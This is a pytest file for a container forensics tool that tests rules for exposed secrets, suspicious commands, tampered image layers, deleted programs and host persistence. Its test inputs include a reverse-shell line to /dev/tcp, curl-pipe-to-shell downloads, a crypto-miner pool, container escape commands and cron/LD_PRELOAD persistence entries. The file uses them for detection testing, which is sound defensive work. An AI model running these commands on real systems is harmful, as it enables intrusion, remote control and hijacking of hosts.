"""Rules about containers, container images and the host as a whole, and the analyst's own YARA rules."""

import json
import sqlite3
from contextlib import closing

import pytest

from forensics.findings.all import find, texts
from forensics.findings.attack import TECHNIQUES
from forensics.findings.commands_seen import hidden_program
from forensics.findings.redact import redacted
from forensics.findings.rule import SEVERITIES
from forensics.findings.scene import Scene
from support.casebuilder import CaseBuilder
from support.cli import run_cli
from support.memory_filesystem import MemoryFilesystem
from support.scenes import OneContainer

STEP = {"created_ns": 1, "created_by": "RUN x", "comment": None, "author": None, "empty": False}


@pytest.fixture
def builder(tmp_path):
    return CaseBuilder(tmp_path / "case.db")


def found(builder, rule, filesystems=None):
    told = {text.name: findings for text, findings in find(Scene(builder.db, filesystems or {}))}
    return [(f.severity, f.title) for f in told[rule]]


def image(builder, **row):
    base = {"image_id": "sha256:" + "1" * 64, "refs": '["shop:1"]', "layers": '["sha256:a"]', "history": json.dumps([STEP])}
    base |= {"store_id": builder.store, "engine": "docker", "origin": "allocated"}
    return builder.insert("container_image", **(base | row))


def test_every_rule_says_all_that_it_must():
    names = [text.name for text in texts()]
    assert len(set(names)) == len(names)
    for text in texts():
        assert text.severity in SEVERITIES
        assert text.title and text.why and text.check and text.benign
        assert text.attack and set(text.attack) <= TECHNIQUES.keys(), text.name


# -- secrets


@pytest.mark.parametrize(
    ("env", "title"),
    [
        (["DB_PASSWORD=hunter2"], "secret in the environment: DB_PASSWORD"),
        (["AWS_SECRET_ACCESS_KEY=abcdefghij", "A=b"], "secret in the environment: AWS_SECRET_ACCESS_KEY"),
        (["DATABASE_URL=postgres://shop:pa55word@db/shop"], "secret in the environment: DATABASE_URL"),
        (["X=ghp_" + "a" * 36], "secret in the environment: X"),
        (["dbPassword=abc"], "secret in the environment: dbPassword"),
    ],
)
def test_secrets_in_the_environment_are_told_and_never_shown(builder, env, title):
    builder.container("c" * 64, "web", env=json.dumps(env), command='["app"]')
    told = {text.name: findings for text, findings in find(Scene(builder.db, {}))}["secret-environment"]
    assert [(f.severity, f.title) for f in told] == [("medium", title)]
    for entry in env:
        assert entry.partition("=")[2] not in told[0].detail + told[0].title or len(entry.partition("=")[2]) < 2


@pytest.mark.parametrize(
    "entry",
    ["PATH=/bin", "DB_PASSWORD_FILE=/run/secrets/db", "GPG_KEY=E3FF2839C048B25C084DEBE9B26995E310250568", "PWD=/srv", "TOKEN=",
     "ALLOW_EMPTY_PASSWORD=yes", "KEYBOARD=de", "API_KEY=${API_KEY}", "SECRET_NAME=db", "URL=https://user@host/x", "PASSENGER=1"],
)  # fmt: skip
def test_what_is_no_secret(builder, entry):
    builder.container("c" * 64, "web", env=json.dumps([entry]))
    assert found(builder, "secret-environment") == []


def test_secrets_in_commands_labels_and_images(builder):
    builder.container("c" * 64, "web", command='["mysql", "--password=hunter2x"]', labels='{"admin.password": "hunter2x"}')
    image(builder, history=json.dumps([STEP | {"created_by": "/bin/sh -c #(nop)  ENV API_TOKEN=hunter2x"}]),
          config=json.dumps({"config": {"Env": ["DB_PASSWORD=hunter2x"]}}))  # fmt: skip
    image(builder, history=None, config="[[", labels=None, image_id="sha256:2")
    assert found(builder, "secret-environment") == [("medium", "secret in the command: --password")]
    assert found(builder, "secret-label") == [("medium", "secret in labels: admin.password")]
    assert found(builder, "secret-image") == [("medium", "secret in container image shop:1: API_TOKEN, DB_PASSWORD")]
    told = [f.detail + f.title for _text, findings in find(Scene(builder.db, {})) for f in findings]
    assert told and not any("hunter2x" in each for each in told)


@pytest.mark.parametrize(
    "line",
    ["mysqldump -psw0rdfish db", "curl -u admin:sw0rdfish https://x", "curl --user=admin:sw0rdfish x",
     "export DB_PASSWORD=sw0rdfish",
     '{"password": "sw0rdfish"}', "psql postgres://u:sw0rdfish@db/x", "app --token sw0rdfish", "Authorization: Bearer sw0rdfish",
     "app --api-key=sw0rdfish -v"],
)  # fmt: skip
def test_what_is_quoted_has_no_secrets(line):
    assert "sw0rdfish" not in redacted(line)
    assert "9 characters" in redacted(line)


@pytest.mark.parametrize(
    ("line", "runs"),
    [
        (b"* * * * * /tmp/.x/miner", True),
        (b"*/5 * * * * root /dev/shm/x -q", True),
        (b"@reboot /var/tmp/.cache/.../kworker", True),
        (b"@reboot root sh /tmp/x", True),
        (b"ExecStart=-/opt/.hidden/x", True),
        (b"export LD_PRELOAD=/tmp/x.so", True),
        (b"cd / && /tmp/x", True),
        (b"0 3 * * * postgres pg_dump shop > /tmp/backup.sql", False),
        (b"0 3 * * * root find /tmp/ -mtime +7 -delete", False),
        (b"0 3 * * * root tar czf /srv/x.tgz /home/shop/.ssh-backup", False),
        (b"export HISTFILE=/tmp/history", False),
        (b'. "$HOME/.cargo/env"', False),
        (b"[ -f ~/.bashrc ] && . ~/.bashrc", False),
        (b"0 3 * * * root /usr/local/bin/backup", False),
    ],
)
def test_programs_in_odd_places_count_where_they_are_run(line, runs):
    assert (hidden_program(line) is not None) == runs


def test_what_is_quoted_is_one_short_line():
    assert redacted("a\nb\tc") == "a b c"
    assert len(redacted("x" * 10_000)) < 300


# -- what containers were started to do


@pytest.mark.parametrize(
    ("rule", "command", "severity"),
    [
        ("command-download", "curl -s http://203.0.113.9/x.sh | sh", "high"),
        ("command-download", "curl -s https://get.example.org/x.sh | sh", "medium"),
        ("command-download", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "high"),
        ("miner-container", "/app/xmrig -o pool.supportxmr.com:443", "high"),
        ("miner-container", "./run --url stratum+tcp://203.0.113.9:3333", "high"),
        ("escape-command", "nsenter -t 1 -m -u -i -n bash", "high"),
        ("escape-command", "chroot /host bash", "high"),
        ("escape-command", "mount /dev/sda1 /mnt", "high"),
    ],
)
def test_commands(builder, rule, command, severity):
    builder.container("c" * 64, "web", command=json.dumps(["sh", "-c", command]))
    assert [each[0] for each in found(builder, rule)] == [severity]


@pytest.mark.parametrize(
    "command", ["nginx -g 'daemon off;'", "curl -f http://localhost/ || exit 1", "mount -a", "python app.py"]
)
def test_ordinary_commands(builder, command):
    builder.container("c" * 64, "web", command=json.dumps(["sh", "-c", command]))
    for rule in ("command-download", "miner-container", "escape-command"):
        assert found(builder, rule) == []


# -- container images


@pytest.mark.parametrize(
    ("rule", "row", "expected"),
    [
        ("image-built-here", {"parent_image": "sha256:2"}, [("info", "container image shop:1 was built on this host")]),
        ("image-built-here", {"history": json.dumps([STEP | {"comment": "Imported from -"}])},
         [("info", "container image shop:1 began as an archive")]),
        ("image-built-here", {"history": json.dumps([STEP | {"comment": "buildkit.dockerfile.v0"}])},
         [("info", "container image shop:1 was not pulled")]),
        ("image-built-here", {"refs": '["nginx:1", "nginx@sha256:1"]',
                              "history": json.dumps([STEP | {"comment": "buildkit.dockerfile.v0"}])}, []),
        ("image-registry", {"refs": '["203.0.113.9:5000/x:1"]'}, [("medium", "container image from 203.0.113.9:5000")]),
        ("image-registry", {"refs": '["registry.example/x:1"]'}, [("low", "container image from registry.example")]),
        ("image-registry", {"refs": '["10.0.0.1:5000/x:1"]'}, [("low", "container image from 10.0.0.1:5000")]),
        ("image-registry", {"refs": '["ghcr.io/a/b:1", "nginx:1", "1.dkr.ecr.eu-west-1.amazonaws.com/x:1"]'}, []),
        ("image-history", {"layers": '["sha256:a", "sha256:b"]'},
         [("medium", "history of container image shop:1 does not fit its layers")]),
        ("image-history", {"history": json.dumps([STEP, STEP | {"empty": True}])}, []),
        ("image-history", {"history": "[]", "layers": '["sha256:a", "sha256:b"]'}, []),
        ("image-download", {"history": json.dumps([STEP | {"created_by": "RUN curl http://203.0.113.9/x | sh"}])},
         [("medium", "build of shop:1 pipes a download into a shell")]),
    ],
)  # fmt: skip
def test_container_images(builder, rule, row, expected):
    image(builder, **row)
    assert found(builder, rule) == expected


def test_an_image_without_a_name_counts_where_a_container_runs_it(builder):
    image(builder, refs="[]")
    assert found(builder, "image-untagged") == []
    only = builder.container("c" * 64, "web", image_id="sha256:" + "1" * 64)
    (told,) = {text.name: findings for text, findings in find(Scene(builder.db, {}))}["image-untagged"]
    assert (told.severity, told.title, told.container) == ("low", f"container image sha256:{'1' * 12} has no name", only)
    assert "used by web;" in told.detail
    builder.container("d" * 64, None, image_id="sha256:" + "1" * 64)
    (both,) = {text.name: findings for text, findings in find(Scene(builder.db, {}))}["image-untagged"]
    assert both.container is None
    assert f"used by web, {'d' * 12};" in both.detail


def test_an_altered_layer_names_its_files_and_who_stands_on_it(builder):
    layer = builder.layer("base")
    builder.db.execute("UPDATE layer SET integrity = 'altered' WHERE id = ?", (layer,))
    for name in ("a", "b"):
        builder.container(name * 64, name, builder.layer(f"own-{name}", layer, kind="container"))
    assert found(builder, "layer-altered") == [("high", "layer of a container image altered")]
    builder.entry(layer, b"/bin/evil", offset=4711)
    builder.insert("layer_fault", layer_id=layer, kind="added", path="bin/evil", text="is not in its archive")
    (told,) = {text.name: findings for text, findings in find(Scene(builder.db, {}))}["layer-altered"]
    assert (told.severity, told.title, told.path, told.offset) == (
        "high", "added in a layer of a container image", b"/bin/evil", 4711,
    )  # fmt: skip
    assert told.detail == "is not in its archive; layer /var/lib/docker/overlay2/base/diff, under a, b"


@pytest.mark.parametrize(("state", "severity"), [("journal replayed", "low"), ("clean", "high")])
def test_files_that_a_power_cut_left_empty_weigh_little(builder, state, severity):
    layer = builder.layer("base")
    builder.db.execute("UPDATE layer SET integrity = 'altered', source_partition = 1 WHERE id = ?", (layer,))
    builder.db.execute("UPDATE partition SET state = ?", (state,))
    builder.insert("layer_fault", layer_id=layer, kind="unwritten", path="bin/sh", text="has 0 bytes, not 7")
    assert found(builder, "layer-altered") == [(severity, "unwritten in a layer of a container image")]


def test_odd_marks_of_one_layer_are_told_once(builder):
    layer = builder.layer("own", kind="container")
    for number in range(5):
        builder.insert("anomaly", entry_id=builder.entry(layer, b"/x%d" % number), kind="redirect", text="leads nowhere")
    assert found(builder, "overlay-oddity") == [("low", "odd mark of overlayfs: redirect")]


# -- removed and deleted


def test_containers_removed_at_the_end(builder):
    hour = 3_600_000_000_000
    now = 1_700_000_000 * 10**9
    builder.container("a" * 64, "there", created_ns=now - 99 * hour, started_ns=now)
    builder.container("b" * 64, "late", origin="recovered", created_ns=now - hour // 2)
    builder.container("c" * 64, "early", origin="recovered", created_ns=now - 9 * hour, finished_ns=now - 8 * hour)
    builder.container("d" * 64, "unknown", origin="recovered")
    assert found(builder, "removed-late") == [("medium", "removed within 30 minutes before the power went off")]


def test_files_deleted_while_open(builder):
    base = {"partition": 1, "type": "f", "size": 9, "confidence": "certain", "recovered_bytes": 9}
    builder.insert("deleted_file", method="orphan", path="/tmp/x", mode=0o755, **base)
    builder.insert("deleted_file", method="orphan", path="/tmp/y", mode=0o600, **base)
    builder.insert("deleted_file", method="journal", path="/tmp/z", mode=0o755, **base)
    assert [severity for severity, _title in found(builder, "deleted-open")] == ["high", "low"]


def deleted(web, path, mode):
    """A deleted file of the container's; answers its number."""
    row = {"partition": 1, "type": "f", "size": 99, "method": "journal", "confidence": "certain"}
    return web.builder.insert("deleted_file", container=web.container, path=path, mode=mode, **row)


@pytest.mark.parametrize(
    ("path", "content", "mode", "severity"),
    [
        (b"/tmp/d.sh", b"#!/bin/sh\nwget http://198.51.100.7/x\n", 0o644, "high"),
        (b"/opt/d.sh", b"#!/bin/sh\nwget http://198.51.100.7/x\n", 0o644, "medium"),
        (b"/opt/d.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", 0o644, "high"),
        (b"/tmp/x", b"\x7fELF" + bytes(60), 0o755, "medium"),
        (b"/tmp/configure", b"#!/bin/sh\n", 0o755, "low"),
        (b"/usr/bin/x", b"\x7fELF" + bytes(60), 0o755, None),
        (b"/tmp/data", b"a,b\n", 0o644, None),
        (b"/tmp/lost", b"", 0o755, None),
    ],
)
def test_deleted_programs(tmp_path, path, content, mode, severity):
    web = OneContainer(tmp_path / "c.db")
    number = deleted(web, path.decode(), mode)
    if content:
        web.contents.files[-number] = content
    assert [each[0] for each in web.found("deleted-program")] == ([] if severity is None else [severity])


def test_what_a_removed_container_had_is_not_told_as_deleted(tmp_path):
    web = OneContainer(tmp_path / "c.db", origin="recovered")
    number = deleted(web, "/tmp/x", 0o755)
    web.contents.files[-number] = b"\x7fELF"
    assert web.found("deleted-program") == []


def test_logs_of_the_image_that_were_deleted(tmp_path):
    web = OneContainer(tmp_path / "c.db")
    for path, size in ((b"/root/.bash_history", 5), (b"/var/log/auth.log", 5), (b"/var/log/apt/x.log.1.gz", 5), (b"/srv/x", 5)):
        web.builder.hide(
            web.own, web.below(path, b"x" * size), "whiteout", web.builder.entry(web.own, path, mark="whiteout", type="c")
        )
    assert [(s, p) for s, _t, p in web.found("removed-log")] == [
        ("medium", b"/root/.bash_history"),
        ("low", b"/var/log/auth.log"),
    ]


# -- the host


@pytest.mark.parametrize(
    ("tree", "expected"),
    [
        ({"etc": {"cron.d": {"x": b"* * * * * root /var/lib/docker/overlay2/abc/diff/run\n"}}}, "high"),
        ({"etc": {"sysctl.d": {"x": b"kernel.core_pattern = |/var/lib/docker/overlay2/abc/diff/run\n"}}}, "high"),
        ({"etc": {"sysctl.d": {"x": b"kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P\n"}}}, None),
        ({"etc": {"ld.so.preload": b"/lib/x.so\n"}}, "high"),
        ({"etc": {"crontab": b"17 * * * * root run-parts /etc/cron.hourly\n# /var/lib/docker/overlay2/x/run\n"}}, None),
        ({"root": {".bash_history": b"docker run --privileged -v /:/host alpine\n"}}, "medium"),
        ({"etc": {"crontab": "/etc/crontab"}}, None),
        ({"etc": {"crontab": b"\xff\0" * 2_000_000}}, None),
    ],
)
def test_traces_on_the_host(builder, tree, expected):
    builder.insert("host_facts", hostname="h", partition=1)
    severities = [severity for severity, _title in found(builder, "host-trace", {1: MemoryFilesystem(tree)})]
    assert severities == ([] if expected is None else [expected])


@pytest.mark.parametrize(("device", "count"), [("/", 1), ("/etc", 1), ("/srv/data", 0), ("tmpfs", 0)])
def test_volumes_that_are_the_host(builder, device, count):
    options = json.dumps({"type": "none", "o": "bind", "device": device})
    builder.insert(
        "volume", store_id=builder.store, engine="docker", name="data", used_by="[]", options=options, origin="allocated"
    )
    assert len(found(builder, "host-volume")) == count


# -- on a disk image


def test_an_intrusion_is_found(carved):
    with closing(sqlite3.connect(carved("webshop"))) as db:
        rows = db.execute("SELECT rule, severity, path, offset, detail FROM findings WHERE container = 'debug'").fetchall()
        titles = [row[0] for row in db.execute("SELECT title FROM findings WHERE container = 'debug'")]
        never = db.execute("SELECT count(*) FROM findings WHERE container = 'migrate' AND path IS NOT NULL").fetchone()
    assert {rule for rule, severity, *_ in rows if severity == "high"} >= {
        "privileged", "engine-socket", "host-mount", "account", "ssh-key", "cron", "ld-preload", "setuid", "new-program",
        "escape-command",
    }  # fmt: skip
    assert {"/usr/bin/.su", "/etc/passwd", "/root/.ssh/authorized_keys", "/etc/ld.so.preload"} <= {row[2] for row in rows}
    assert all(row[3] is not None for row in rows)
    assert "account daemon2 has uid 0" in titles
    assert never == (0,)


def test_the_environment_of_the_sample_is_redacted(carved):
    with closing(sqlite3.connect(carved("webshop"))) as db:
        (env,) = db.execute("SELECT env FROM containers WHERE name = 'storefront'").fetchone()
        told = db.execute("SELECT title || detail FROM findings WHERE rule = 'secret-environment'").fetchall()
    password = next(entry.partition("=")[2] for entry in json.loads(env) if entry.startswith("DB_PASSWORD="))
    assert told and not any(password in text for (text,) in told)


def test_findings_and_rules_as_commands(carved):
    case = carved("webshop")
    rows = [
        json.loads(line) for line in run_cli("findings", case, "-f", "jsonl", "--severity", "high", "-c", "debug").splitlines()
    ]
    assert {row["severity"] for row in rows} == {"high"}
    assert {row["container"] for row in rows} == {"debug"}
    assert isinstance(rows[0]["attack"], list)
    assert run_cli("findings", case, "--rule", "cron").count(b"\n") == 2
    assert b"T1548.001" in run_cli("rules", case, "setuid")
    run_cli("rules", case, "nosuchrule", expect=2)
    run_cli("findings", case, "--rule", "nosuchrule", expect=2)


def test_a_carve_that_looks_for_nothing(sample, tmp_path):
    out = run_cli("carve", sample("webshop"), "-o", tmp_path / "c.db", "--no-findings")
    assert b"not looked for" in out
    run_cli("rules", tmp_path / "c.db", "setuid", expect=2)
